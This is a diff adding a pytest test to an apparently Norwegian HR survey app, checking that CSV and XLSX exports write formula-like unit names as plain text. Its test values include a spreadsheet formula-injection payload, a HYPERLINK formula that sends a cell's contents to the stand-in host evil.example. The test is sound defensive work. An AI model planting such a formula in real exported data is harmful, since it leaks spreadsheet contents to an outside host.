@@ -143,3 +143,30 @@ def test_free_text_list_shows_the_newest_and_says_how_many(app, session, results
     # The school's six were stored last: three about working hours after three about pay.
     assert newest == ["Tekst om arbeidstid, ring [telefon]"] * 3 + ["Tekst om lonn, ring [telefon]"]
     assert free_texts(session, scope, question, 19) is None  # fewer writers than the minimum
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klikk")', "+SUM(1+1)", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_exports_write_names_that_look_like_formulas_as_text(client, session, make_user, results_org, name):
+    import zipfile
+
+    unit = session.query(Unit).filter_by(code="HO-1").one()
+    unit.name = name
+    session.commit()
+    make_user("hr@testvik.no", {results_org: ["hr"]})
+    login(client, "hr@testvik.no")
+    for table in ("main_reason", "turnover"):
+        response = client.get(URL.replace("resultat?", f"resultat/eksport.csv?table={table}&") + "&by=unit")
+        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
+        cells_found = [c for row in rows for c in row if name.strip() in c]
+        assert cells_found and all(c.startswith("'") and c.lstrip("' ").startswith(name) for c in cells_found)
+        assert not any(c.lstrip(" ").startswith(tuple("=+-@\t\r")) for row in rows for c in row
+                       if not c.lstrip("-").isdigit())
+        response = client.get(URL.replace("resultat?", f"resultat/eksport.xlsx?table={table}&") + "&by=unit")
+        with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
+            assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+        sheet = load_workbook(io.BytesIO(response.data)).active
+        texts = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and name.strip() in c.value]
+        assert texts and all(c.data_type == "s" for c in texts)
